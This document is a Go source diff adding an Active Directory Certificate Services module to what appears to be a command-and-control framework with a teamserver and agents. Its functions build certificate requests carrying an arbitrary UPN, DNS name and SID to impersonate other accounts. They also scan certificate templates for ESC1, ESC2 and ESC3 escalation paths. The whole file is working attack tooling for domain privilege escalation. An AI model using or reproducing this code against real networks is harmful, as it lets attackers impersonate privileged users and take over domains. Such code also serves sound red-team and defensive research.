@@ -0,0 +1,320 @@
+package agent
+
+import (
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/pem"
+	"fmt"
+	"regexp"
+	"strconv"
+	"strings"
+)
+
+const (
+	ADCS_COMMAND_REQUEST = 0x1
+)
+
+// dispositions of a certificate request (see certcli.h)
+const (
+	ADCS_DISP_INCOMPLETE         = 0
+	ADCS_DISP_ERROR              = 1
+	ADCS_DISP_DENIED             = 2
+	ADCS_DISP_ISSUED             = 3
+	ADCS_DISP_ISSUED_OUT_OF_BAND = 4
+	ADCS_DISP_UNDER_SUBMISSION   = 5
+	ADCS_DISP_REVOKED            = 6
+)
+
+// flags of the certificate templates
+const (
+	CT_FLAG_ENROLLEE_SUPPLIES_SUBJECT = 0x1
+	CT_FLAG_PEND_ALL_REQUESTS         = 0x2
+)
+
+// object identifiers of certificate requests and templates
+var (
+	oidSubjectAltName   = asn1.ObjectIdentifier{2, 5, 29, 17}
+	oidUPN              = asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2, 3}
+	oidNTDSCASecurity   = asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 25, 2}
+	oidNTDSObjectSid    = asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 25, 2, 1}
+	adcsAuthentication  = []string{"1.3.6.1.5.5.7.3.2", "1.3.6.1.5.2.3.4", "1.3.6.1.4.1.311.20.2.2"}
+	adcsAnyPurpose      = "2.5.29.37.0"
+	adcsRequestAgent    = "1.3.6.1.4.1.311.20.2.1"
+	adcsTemplateName    = regexp.MustCompile(`^[A-Za-z0-9 ._-]{1,64}$`)
+	adcsDispositionName = map[int]string{
+		ADCS_DISP_INCOMPLETE:         "incomplete",
+		ADCS_DISP_ERROR:              "error",
+		ADCS_DISP_DENIED:             "denied",
+		ADCS_DISP_ISSUED:             "issued",
+		ADCS_DISP_ISSUED_OUT_OF_BAND: "issued out of band",
+		ADCS_DISP_UNDER_SUBMISSION:   "pending manager approval",
+		ADCS_DISP_REVOKED:            "revoked",
+	}
+)
+
+// status codes of the certificate services the demon might return
+var adcsErrors = map[uint32]string{
+	0x80094011: "enrollment denied",
+	0x80094012: "template denies enrollment of the user",
+	0x80094800: "template not supported by the certificate authority",
+	0x80094801: "request has no template",
+	0x80094803: "template requires a subject alternative name",
+	0x80094805: "template requires a smime capability",
+	0x8009480f: "subject dns name of the template is missing",
+	0x80094810: "subject email of the template is missing",
+	0x80094812: "template requires an email",
+	0x800706ba: "rpc server unavailable",
+	0x80070005: "access denied",
+	0x80070057: "invalid request",
+}
+
+// attributes of the templates and authorities the enumeration requests
+const (
+	ADCS_TEMPLATE_ATTRIBUTES  = "objectClass,cn,name,displayName,msPKI-Certificate-Name-Flag,msPKI-Enrollment-Flag,msPKI-RA-Signature,pKIExtendedKeyUsage,msPKI-Certificate-Application-Policy,msPKI-Template-Schema-Version"
+	ADCS_AUTHORITY_ATTRIBUTES = "objectClass,cn,name,dNSHostName,certificateTemplates,cACertificateDN"
+)
+
+// AdcsRequest
+// certificate request the teamserver created for an agent. The key never
+// leaves the teamserver.
+type AdcsRequest struct {
+	Authority string
+	Template  string
+	Subject   string
+	UPN       string
+	DNS       string
+	SID       string
+	Key       *rsa.PrivateKey
+}
+
+// AdcsError
+// returns the description of the status of a certificate request.
+func AdcsError(Status int) string {
+	if Description, ok := adcsErrors[uint32(Status)]; ok {
+		return fmt.Sprintf("%v (0x%x)", Description, uint32(Status))
+	}
+
+	return fmt.Sprintf("error 0x%x", uint32(Status))
+}
+
+// AdcsDisposition
+// returns the name of the disposition of a certificate request.
+func AdcsDisposition(Disposition int) string {
+	if Name, ok := adcsDispositionName[Disposition]; ok {
+		return Name
+	}
+
+	return fmt.Sprintf("disposition %v", Disposition)
+}
+
+// AdcsCSR
+// creates the key pair and the pkcs10 request of the certificate. The
+// upn, dns name and sid end up in the request so templates that let the
+// enrollee supply the subject issue the certificate for them.
+func AdcsCSR(Request *AdcsRequest) (string, error) {
+	var (
+		Template = &x509.CertificateRequest{
+			Subject:            pkix.Name{CommonName: Request.Subject},
+			SignatureAlgorithm: x509.SHA256WithRSA,
+		}
+		Names []asn1.RawValue
+		err   error
+	)
+
+	if Request.Key, err = rsa.GenerateKey(rand.Reader, 2048); err != nil {
+		return "", err
+	}
+
+	if len(Request.UPN) > 0 {
+		Value, err := asn1.MarshalWithParams(Request.UPN, "utf8")
+		if err != nil {
+			return "", err
+		}
+
+		Name, err := adcsOtherName(oidUPN, Value)
+		if err != nil {
+			return "", err
+		}
+
+		Names = append(Names, Name)
+	}
+
+	if len(Request.DNS) > 0 {
+		Names = append(Names, asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 2, Bytes: []byte(Request.DNS)})
+	}
+
+	if len(Names) > 0 {
+		Value, err := asn1.Marshal(Names)
+		if err != nil {
+			return "", err
+		}
+
+		Template.ExtraExtensions = append(Template.ExtraExtensions, pkix.Extension{Id: oidSubjectAltName, Value: Value})
+	}
+
+	/* strong certificate mapping of the domain controllers */
+	if len(Request.SID) > 0 {
+		Value, err := asn1.Marshal([]byte(Request.SID))
+		if err != nil {
+			return "", err
+		}
+
+		Name, err := adcsOtherName(oidNTDSObjectSid, Value)
+		if err != nil {
+			return "", err
+		}
+
+		if Value, err = asn1.Marshal([]asn1.RawValue{Name}); err != nil {
+			return "", err
+		}
+
+		Template.ExtraExtensions = append(Template.ExtraExtensions, pkix.Extension{Id: oidNTDSCASecurity, Value: Value})
+	}
+
+	CSR, err := x509.CreateCertificateRequest(rand.Reader, Template, Request.Key)
+	if err != nil {
+		return "", err
+	}
+
+	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: CSR})), nil
+}
+
+// adcsOtherName
+// returns the otherName general name with the value.
+func adcsOtherName(Type asn1.ObjectIdentifier, Value []byte) (asn1.RawValue, error) {
+	var Name = struct {
+		Type  asn1.ObjectIdentifier
+		Value asn1.RawValue
+	}{
+		Type:  Type,
+		Value: asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, IsCompound: true, Bytes: Value},
+	}
+
+	Bytes, err := asn1.MarshalWithParams(Name, "tag:0")
+	if err != nil {
+		return asn1.RawValue{}, err
+	}
+
+	return asn1.RawValue{FullBytes: Bytes}, nil
+}
+
+// AdcsTemplateIssues
+// returns the escalations the settings of the certificate template allow.
+// Only the template is checked, the enrollment rights aren't.
+func AdcsTemplateIssues(Entry LdapEntry) []string {
+	var (
+		Issues     []string
+		NameFlag   = adcsInt(Entry, "msPKI-Certificate-Name-Flag")
+		Enrollment = adcsInt(Entry, "msPKI-Enrollment-Flag")
+		Signatures = adcsInt(Entry, "msPKI-RA-Signature")
+		Usages     = adcsValues(Entry, "pKIExtendedKeyUsage")
+		Auth       = false
+		Any        = len(Usages) == 0
+		Agent      = false
+	)
+
+	/* manager approval or authorized signatures stop every escalation */
+	if Enrollment&CT_FLAG_PEND_ALL_REQUESTS != 0 || Signatures > 0 {
+		return nil
+	}
+
+	for _, Usage := range Usages {
+		switch {
+
+		case Usage == adcsAnyPurpose:
+			Any = true
+
+		case Usage == adcsRequestAgent:
+			Agent = true
+
+		default:
+			for _, Oid := range adcsAuthentication {
+				if Usage == Oid {
+					Auth = true
+				}
+			}
+
+		}
+	}
+
+	if NameFlag&CT_FLAG_ENROLLEE_SUPPLIES_SUBJECT != 0 && (Auth || Any) {
+		Issues = append(Issues, "ESC1")
+	}
+
+	if Any {
+		Issues = append(Issues, "ESC2")
+	}
+
+	if Agent {
+		Issues = append(Issues, "ESC3")
+	}
+
+	return Issues
+}
+
+func adcsValues(Entry LdapEntry, Name string) []string {
+	for Key, Values := range Entry.Attributes {
+		if strings.EqualFold(Key, Name) {
+			return Values
+		}
+	}
+
+	return nil
+}
+
+func adcsInt(Entry LdapEntry, Name string) int {
+	var Values = adcsValues(Entry, Name)
+
+	if len(Values) == 0 {
+		return 0
+	}
+
+	/* flags are stored as signed 32-bit integers */
+	Value, _ := strconv.ParseInt(Values[0], 10, 64)
+
+	return int(uint32(Value))
+}
+
+// AdcsUPN
+// returns the user principal name of the subject alternative name of
+// the certificate.
+func AdcsUPN(Certificate *x509.Certificate) string {
+	for _, Extension := range Certificate.Extensions {
+		var Names []asn1.RawValue
+
+		if !Extension.Id.Equal(oidSubjectAltName) {
+			continue
+		}
+
+		if _, err := asn1.Unmarshal(Extension.Value, &Names); err != nil {
+			return ""
+		}
+
+		for _, Name := range Names {
+			var (
+				Other struct {
+					Type  asn1.ObjectIdentifier
+					Value asn1.RawValue
+				}
+				UPN string
+			)
+
+			if Name.Class != asn1.ClassContextSpecific || Name.Tag != 0 {
+				continue
+			}
+
+			if _, err := asn1.UnmarshalWithParams(Name.FullBytes, &Other, "tag:0"); err != nil || !Other.Type.Equal(oidUPN) {
+				continue
+			}
+
+			if _, err := asn1.UnmarshalWithParams(Other.Value.Bytes, &UPN, "utf8"); err == nil {
+				return UPN
+			}
+		}
+	}
+
+	return ""
+}